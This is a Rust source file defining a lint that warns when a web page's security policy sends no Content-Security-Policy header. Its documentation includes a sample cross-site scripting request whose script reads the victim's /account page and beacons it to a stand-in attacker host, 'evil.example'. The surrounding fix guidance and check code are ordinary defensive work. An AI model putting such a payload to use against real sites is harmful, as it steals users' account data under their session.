use crate::diagnostic::Diagnostic;
use crate::header::Field;
use crate::lint::report::{Report, lint};
use crate::policy::SecurityPolicy;

lint! {
    /// # What it does
    ///
    /// Looks for a policy of pages that sends no Content-Security-Policy. If there is a report-only one,
    /// `csp_report_only_alone` reports that instead. Who may frame the page is the subject of `framing_missing`.
    ///
    /// # Why it matters
    ///
    /// Content-Security-Policy is the second line of defense against cross-site scripting. Without it, one value that a
    /// template does not escape is enough to run a script in your origin, with the session of the user who opens the
    /// page.
    ///
    /// # Attack
    ///
    /// A search page prints the query without escaping it:
    ///
    /// ```http
    /// GET /search?q=<script>fetch('/account').then(r=>r.text()).then(t=>navigator.sendBeacon('//evil.example',t))</script> HTTP/1.1
    /// ```
    ///
    /// The browser runs the script, since nothing tells it which scripts belong to the page.
    ///
    /// # Example
    ///
    /// ```text
    /// x_frame_options: deny,
    /// ```
    ///
    /// # Fix
    ///
    /// Start from this policy, and add what the pages need.
    ///
    /// ```text
    /// content_security_policy: {
    ///     default_src: self,
    ///     base_uri: none,
    ///     form_action: self,
    ///     frame_ancestors: none,
    /// },
    /// ```
    ///
    /// Responses that are not pages need none. Declare what they are: `content_type: "application/json"` for data,
    /// `content_disposition: attachment` for downloads.
    ///
    /// # Allow
    ///
    /// ```text
    /// #[allow(csp_missing, reason = "the reverse proxy adds the policy")]
    /// pub struct Shop { … }
    /// ```
    ///
    /// Reasonable where something else adds the header. `#[allow(missing, reason = "…")]` accepts everything that the
    /// policy lacks.
    ///
    /// # References
    ///
    /// - [CSP3, section 1.2, goals](https://w3c.github.io/webappsec-csp/#goals)
    /// - [OWASP, Content Security Policy cheat sheet](https://cheatsheetseries.owasp.org/cheatsheets/Content_Security_Policy_Cheat_Sheet.html)
    Warn "no Content-Security-Policy is sent" missing,
    cwe [693], asvs ["3.4.3"],
    check
}

fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
    if !policy.serves_pages() || !policy.csps().is_empty() || policy.has(Field::ContentSecurityPolicy) {
        return;
    }
    report.push(
        Diagnostic::finding(policy.name, "this policy has no `content_security_policy`")
            .help(
                "add `content_security_policy: { default_src: self, base_uri: none, form_action: self, frame_ancestors: none }`; for responses that are not pages, declare what they are: `content_type: \"application/json\"`",
            )
            .note("without it, one value that is not escaped is enough to run a script with the user's session"),
    );
}
